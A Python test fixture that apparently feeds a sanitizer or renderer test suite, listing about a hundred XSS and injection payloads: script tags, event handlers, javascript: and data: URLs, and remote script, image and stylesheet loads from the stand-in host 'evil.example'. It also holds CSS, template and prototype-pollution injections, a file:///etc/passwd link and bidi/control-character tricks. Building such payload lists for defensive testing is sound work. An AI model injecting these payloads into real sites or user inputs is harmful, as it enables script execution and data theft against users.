"""A hundred texts that want to be more than text. Each says `hostile()` when it gets its way.

`hostile` is a function that the test puts on the page before anything else; `EVIL` is a host that nobody may ask.
"""

from __future__ import annotations

import base64

EVIL = "evil.example"
SAY = "hostile()"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SAY}"><script>{SAY}</script></svg>'
SVG_IMAGE = "data:image/svg+xml;base64," + base64.b64encode(SVG.encode()).decode()
HTML_IMAGE = "data:text/html;base64," + base64.b64encode(f"<script>parent.{SAY}</script>".encode()).decode()

SCRIPTS = (
    f"<script>{SAY}</script>",
    f"<ScRiPt>{SAY}</sCrIpT>",
    f"<script src=//{EVIL}/a.js></script>",
    f"<script src='https://{EVIL}/a.js' defer></script>",
    f"<script type=module>import 'https://{EVIL}/m.js'</script>",
    f"<scr<script>ipt>{SAY}</scr</script>ipt>",
    f"<script\x0b>{SAY}</script>",
    f"</script><script>{SAY}</script>",
    f"</textarea></title></style><script>{SAY}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={SAY}>'>",
    f"<math><mi><mglyph><style><img src=x onerror={SAY}></style></mglyph></mi></math>",
    f"<svg><style><![CDATA[</style><img src=x onerror={SAY}>]]></style></svg>",
    f"<template><script>{SAY}</script></template>",
    f"<!--><img src=x onerror={SAY}>-->",
    f"<![CDATA[><script>{SAY}</script>]]>",
)
HANDLERS = (
    f"<img src=x onerror={SAY}>",
    f'<img src="x" onerror="{SAY}" alt="a &quot; b">',
    f"<img/src=x/onerror={SAY}>",
    "<IMG SRC=x ONERROR=&#104;ostile()>",
    f"<body onload={SAY}>",
    f"<svg onload={SAY}>",
    f"<svg><animate onbegin={SAY} attributeName=x dur=1s>",
    f"<details open ontoggle={SAY}><summary>look</summary></details>",
    f"<input autofocus onfocus={SAY}>",
    f"<select autofocus onfocus={SAY}><option>1</select>",
    f"<video><source onerror={SAY}></video>",
    f"<audio src=x onerror={SAY}>",
    f"<marquee onstart={SAY}>far away</marquee>",
    f"<a href=# onmouseover={SAY}>over me</a>",
    f"<div onpointerenter={SAY} style='position:fixed;inset:0;z-index:9999'>all of it</div>",
    f"<p tabindex=0 onfocus={SAY} autofocus>focus</p>",
    f"<object data=x onerror={SAY}></object>",
    f"<style onload={SAY}></style>",
    f"<iframe onload={SAY}></iframe>",
    f"<x oncontentvisibilityautostatechange={SAY} style='content-visibility:auto'>",
)
ADDRESSES = (
    f"[a](javascript:{SAY})",
    f"[a](JaVaScRiPt:{SAY})",
    f"[a](java\tscript:{SAY})",
    f"[a]( &#106;avascript:{SAY})",
    f"[a](<javascript:{SAY}>)",
    f"[a]: javascript:{SAY}\n\n[a]",
    f"[a](vbscript:{SAY})",
    f"[a]({HTML_IMAGE})",
    f"[a](data:text/html,<script>{SAY}</script>)",
    f"<javascript:{SAY}>",
    f"<a href='javascript:{SAY}'>a</a>",
    f"<a href='\x01javascript:{SAY}'>a</a>",
    f"<a xlink:href='javascript:{SAY}'>a</a>",
    f"<a href='//{EVIL}' ping='https://{EVIL}/ping'>a</a>",
    f"<form action='https://{EVIL}'><button formaction='javascript:{SAY}'>send</button></form>",
    f"javascript:{SAY}",
    f"data:text/html,<script>{SAY}</script>",
    f"file:///etc/passwd#{SAY}",
)
PICTURES = (
    f"![a]({SVG_IMAGE})",
    f"![a](data:image/svg+xml,{SVG})",
    f"![a](https://{EVIL}/a.png)",
    f"![a](//{EVIL}/a.png)",
    f'![a](x "" onerror={SAY})',
    f'![a"onerror="{SAY}](x)',
    f"![a]({HTML_IMAGE})",
    f"<img src='{SVG_IMAGE}'>",
    f"<img src='https://{EVIL}/a.png'>",
    f"<img srcset='https://{EVIL}/a.png 2x' src=''>",
    f"<picture><source srcset='https://{EVIL}/a.webp'><img></picture>",
    f"<img src=' data:image/svg+xml;base64,{SVG_IMAGE.partition(',')[2]}'>",
    f"<image href='https://{EVIL}/a.png'/>",
    SVG,
    f"<svg><use href='https://{EVIL}/a.svg#x'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{SAY}</script>'></iframe></foreignObject></svg>",
)
LOADING = (
    f"<iframe src='https://{EVIL}'></iframe>",
    f"<iframe srcdoc='<script>parent.{SAY}</script>'></iframe>",
    f"<iframe src='javascript:parent.{SAY}'></iframe>",
    f"<embed src='https://{EVIL}/a.swf'>",
    f"<object data='{HTML_IMAGE}'></object>",
    f"<link rel=stylesheet href='https://{EVIL}/a.css'>",
    f"<link rel=preload as=image href='https://{EVIL}/a.png'>",
    f"<meta http-equiv=refresh content='0;url=https://{EVIL}'>",
    f"<base href='https://{EVIL}/'>",
    f"<portal src='https://{EVIL}'></portal>",
)
STYLES = (
    f"<style>@import 'https://{EVIL}/a.css';</style>",
    f"<style>body {{ background: url(https://{EVIL}/a.png) }} main {{ display: none }}</style>",
    f"<p style=\"background:url('https://{EVIL}/a.png')\">painted</p>",
    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;background:red'>over all</div>",
    f"red; background-image: url(https://{EVIL}/a.png)",
    "}} * {{ display: none !important }} {{",
    f"expression({SAY})",
)
TEMPLATES = (
    "{{constructor.constructor('hostile()')()}}",
    "${hostile()}",
    "#{hostile()}",
    "<%= hostile() %>",
    '{"__proto__": {"polluted": "hostile()"}}',
    '{"dangerouslySetInnerHTML": {"__html": "<img src=x onerror=hostile()>"}}',
    '"};hostile();//',
)
LETTERS = (
    "\u202egnp.elif\u202c",
    "\u2066\u202e\u2067 right and left \u2069\u2069",
    "a\u0000b\u0007c",
    "\x1b[31mred\x1b[0m \x1b]8;;javascript:hostile()\x07link\x1b]8;;\x07 \x1b[2J\x1b[H\x1b]0;title\x07",
    "first\rsecond\rlast\b\b\b",
    "W" * 3_000,
    "Z̷̢̛" + "̶̧̡" * 300,
)

PAYLOADS = (*SCRIPTS, *HANDLERS, *ADDRESSES, *PICTURES, *LOADING, *STYLES, *TEMPLATES, *LETTERS)
